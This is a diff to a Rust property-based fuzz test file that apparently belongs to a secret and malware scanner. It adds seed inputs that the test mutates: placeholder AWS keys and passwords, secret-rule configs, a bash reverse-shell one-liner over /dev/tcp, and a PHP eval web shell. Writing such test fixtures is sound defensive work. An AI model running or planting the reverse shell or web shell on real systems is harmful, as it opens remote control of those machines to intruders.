@@ -6,12 +6,13 @@
 
 #[path = "generated/bodies.rs"]
 mod bodies;
+#[path = "generated/changes.rs"]
+mod changes;
 
 use std::io::{Cursor, Write as _};
 
-use proptest::collection::vec;
+use changes::changed;
 use proptest::prelude::*;
-use proptest::sample::{Index, select};
 use proptest::test_runner::RngSeed;
 use zip::{CompressionMethod, ZipWriter, write::SimpleFileOptions};
 
@@ -22,57 +23,6 @@ fn config() -> ProptestConfig {
         rng_seed: RngSeed::Fixed(3),
         ..ProptestConfig::default()
     }
-}
-
-/// A change of bytes.
-#[derive(Debug, Clone)]
-enum Change {
-    Byte(Index, u8),
-    Repeat(Index, Index),
-    Cut(Index, Index),
-}
-
-fn change() -> impl Strategy<Value = Change> {
-    prop_oneof![
-        4 => (any::<Index>(), any::<u8>()).prop_map(|(place, byte)| Change::Byte(place, byte)),
-        1 => (any::<Index>(), any::<Index>()).prop_map(|(from, to)| Change::Repeat(from, to)),
-        1 => (any::<Index>(), any::<Index>()).prop_map(|(from, to)| Change::Cut(from, to)),
-    ]
-}
-
-fn apply(bytes: &mut Vec<u8>, change: &Change) {
-    if bytes.is_empty() {
-        return;
-    }
-    let range = |from: &Index, to: &Index, length| {
-        let (from, to) = (from.index(length), to.index(length));
-        from.min(to)..from.max(to)
-    };
-    match change {
-        Change::Byte(place, byte) => {
-            let place = place.index(bytes.len());
-            bytes[place] = *byte;
-        }
-        Change::Repeat(from, to) => {
-            let range = range(from, to, bytes.len());
-            let piece = bytes[range.clone()].to_vec();
-            bytes.splice(range.end..range.end, piece);
-        }
-        Change::Cut(from, to) => {
-            let range = range(from, to, bytes.len());
-            bytes.drain(range);
-        }
-    }
-}
-
-/// One of `seeds`, changed a few times.
-fn changed(seeds: Vec<Vec<u8>>) -> impl Strategy<Value = Vec<u8>> {
-    (select(seeds), vec(change(), 0..5)).prop_map(|(mut bytes, changes)| {
-        for change in &changes {
-            apply(&mut bytes, change);
-        }
-        bytes
-    })
 }
 
 fn zip_of(entries: &[(&str, &[u8])], method: CompressionMethod) -> Vec<u8> {
@@ -144,8 +94,46 @@ fn other_texts() -> Vec<Vec<u8>> {
     ])
 }
 
+/// Looks like a key of Amazon's, and is none.
+fn secret_texts() -> Vec<Vec<u8>> {
+    texts(&[
+        "AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLA\nAWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKE1\n",
+        "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEAx\n-----END RSA PRIVATE KEY-----\n",
+        "password: 'hunter2hunter2'\nurl = postgres://a:s3cretS3cret@db/x\n",
+    ])
+}
+
+fn rule_texts() -> Vec<Vec<u8>> {
+    texts(&[
+        "[[rules]]\nid = \"a\"\nregex = 'a[a-z0-9]{10,20}'\nkeywords = [\"a\"]\nentropy = 3\n[rules.allowlist]\nregexes = ['b']\n",
+        "[allowlist]\npaths = ['x']\n[[rules]]\nid = \"b\"\npath = '\\.p12$'\n",
+    ])
+}
+
+fn code_texts() -> Vec<Vec<u8>> {
+    texts(&[
+        "#!/bin/sh\nexec 5<>/dev/tcp/192.0.2.1/4444\ncat <&5 | while read l; do $l 2>&5 >&5; done\n",
+        "<?php @eval($_POST['x']); ?>",
+    ])
+}
+
 proptest! {
     #![proptest_config(config())]
+
+    #[test]
+    fn secrets(data in changed(secret_texts())) {
+        bodies::secrets(&data);
+    }
+
+    #[test]
+    fn secret_rules(data in changed(rule_texts())) {
+        bodies::secret_rules(&data);
+    }
+
+    #[test]
+    fn malware(data in changed(code_texts())) {
+        bodies::malware(&data);
+    }
 
     #[test]
     fn java(data in changed(archives())) {
